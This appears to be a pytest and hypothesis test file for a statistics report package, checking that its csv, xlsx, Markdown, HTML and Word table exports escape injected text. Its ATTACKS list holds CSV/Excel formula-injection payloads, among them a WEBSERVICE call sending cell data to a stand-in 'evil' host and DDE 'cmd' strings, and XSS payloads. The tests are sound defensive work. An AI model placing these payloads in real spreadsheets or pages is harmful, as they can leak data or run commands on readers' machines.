"""Output that cannot hurt its reader: no live formulas in xlsx/csv, no raw HTML or Markdown
syntax from labels, numbers as numbers in xlsx, `$` in figure labels (issue 10, last section)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from didstudy.report.escape import excel_number, is_plain_number, markdown_text, spreadsheet_text
from didstudy.report.tables.model import Row, Table
from didstudy.report.tables.to_docx import table_to_docx
from didstudy.report.tables.to_html import table_to_html
from didstudy.report.tables.to_text import table_to_csv, table_to_markdown
from didstudy.report.tables.to_xlsx import table_to_xlsx

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = (
    '=WEBSERVICE("http://evil/?"&A1)',
    '=HYPERLINK("http://evil","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "# heading",
    "$\\frac{1}{$",
)


def _table(label: str, title: str, note: str, number: str = "-0.037***") -> Table:
    return Table(
        caption=title,
        title=title,
        header=(Row.of(["Variable", label], kind="header"),),
        body=(Row.of([label, number]), Row.of(["", "(0.006)"])),
        notes=(note,),
        name="t",
    )


def _xlsx_cells(payload: bytes) -> list[object]:
    import openpyxl

    workbook = openpyxl.load_workbook(io.BytesIO(payload))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def _check_all_formats(label: str, title: str, note: str) -> None:
    table = _table(label, title, note)
    for row in csv.reader(io.StringIO(table_to_csv(table), newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_START) or is_plain_number(cell), cell
    payload = table_to_xlsx(table)
    with zipfile.ZipFile(io.BytesIO(payload)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) for n in sheets)  # no formula anywhere
    for cell in _xlsx_cells(payload):
        value = getattr(cell, "value", None)
        assert getattr(cell, "data_type", "s") != "f"
        if isinstance(value, str):
            assert not value.startswith(FORMULA_START) or is_plain_number(value), value
    markdown = table_to_markdown(table)
    for text in (label, title, note):
        if "<" in text:
            assert text not in markdown
    assert "<" not in markdown.replace("&lt;", "")
    html = table_to_html(table)
    assert "<script" not in html and "<img" not in html
    assert table_to_docx(table)  # control characters do not crash the Word writer


@pytest.mark.parametrize("attack", ATTACKS)
def test_issue_reproducers_are_neutralised_in_every_format(attack: str) -> None:
    _check_all_formats(attack, attack, attack)


def test_xlsx_title_is_text_and_numbers_are_numbers() -> None:
    table = _table("x", '=WEBSERVICE("http://evil")', "=1+1")
    cells = _xlsx_cells(table_to_xlsx(table))
    by_value = {getattr(c, "value", None): c for c in cells}
    assert '\'=WEBSERVICE("http://evil")' in by_value
    coefficient = by_value[-0.037]
    assert getattr(coefficient, "number_format", "") == '0.000"***";-0.000"***"'
    assert getattr(by_value[0.006], "number_format", "") == "(0.000);(-0.000)"


def test_csv_keeps_plain_negative_numbers_and_neutralises_formulas() -> None:
    text = table_to_csv(_table('=HYPERLINK("x")', "t", "n", number="-1.250"))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ['\'=HYPERLINK("x")', "-1.250"]


def test_figure_labels_with_dollar_signs_render(tmp_path: Path) -> None:
    import matplotlib.pyplot as plt

    from didstudy.report.figures._style import figure_style

    with figure_style("en"):
        figure, axes = plt.subplots()
        axes.set_title("$\\frac{1}{$ cost in $")
        axes.plot([0, 1], [0, 1], label="$x")
        axes.legend()
        figure.savefig(tmp_path / "f.png")
        plt.close(figure)
    assert (tmp_path / "f.png").stat().st_size > 0


_TEXT = st.text(
    alphabet=st.sampled_from(
        [*"=+-@\t\r\n<>&\"'[]()*_#|`~$\\ ab1.,:;/!", "中", "é", "\x00", "\x0b", "\x1f"]
    ),
    max_size=24,
)


@settings(max_examples=25, deadline=None)
@given(label=_TEXT, title=_TEXT, note=_TEXT)
def test_fuzz_no_label_becomes_a_formula_html_or_markdown(
    label: str, title: str, note: str
) -> None:
    _check_all_formats(label or "x", title, note)


@settings(max_examples=100, deadline=None)
@given(text=_TEXT)
def test_fuzz_escapes_are_safe_and_numbers_round_trip(text: str) -> None:
    safe = spreadsheet_text(text)
    assert not safe.startswith(FORMULA_START) or is_plain_number(safe)
    assert safe.endswith(text)
    md = markdown_text(text)
    assert "<" not in md and ">" not in md and "\n" not in md
    number = excel_number(text)
    if number is not None:
        value, _ = number
        digits = text.strip("()*%−-†").replace(",", "")
        assert abs(abs(value) - float(digits) / (100 if "%" in text else 1)) < 1e-12
